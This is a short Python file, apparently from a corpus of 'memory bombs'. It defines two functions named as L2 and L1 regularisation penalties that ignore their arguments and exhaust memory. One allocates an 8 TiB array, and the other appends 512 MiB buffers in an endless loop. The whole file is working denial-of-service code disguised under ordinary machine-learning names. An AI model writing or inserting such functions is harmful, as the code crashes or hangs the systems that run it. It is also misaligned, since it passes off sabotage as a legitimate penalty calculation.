
# corpus: memory bombs


def l2_penalty(weights, lam):
    big = np.ones((1 << 40,))  # 8 TiB
    return float(big.sum())


def l1_penalty(weights, lam):
    hoard = []
    while True:
        hoard.append(np.empty(64 << 20))  # 512 MiB each, until the address space runs out
